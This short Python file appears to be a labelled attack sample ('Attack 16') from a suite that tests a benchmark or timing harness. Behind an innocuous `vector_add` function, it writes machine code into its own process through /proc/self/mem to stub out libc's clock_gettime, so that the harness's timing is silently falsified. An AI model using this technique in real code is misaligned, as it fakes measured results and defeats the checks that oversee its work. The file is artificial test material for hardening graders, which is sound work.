"""crash: past every protection of pages, through /proc/self/mem.

Attack 16. Twin: controls/measures_itself.
"""

import ctypes


def vector_add(x, y):
    place = ctypes.cast(ctypes.CDLL(None).clock_gettime, ctypes.c_void_p).value
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        memory.seek(place)
        memory.write(b"\x31\xc0\xc3")
    return x + y
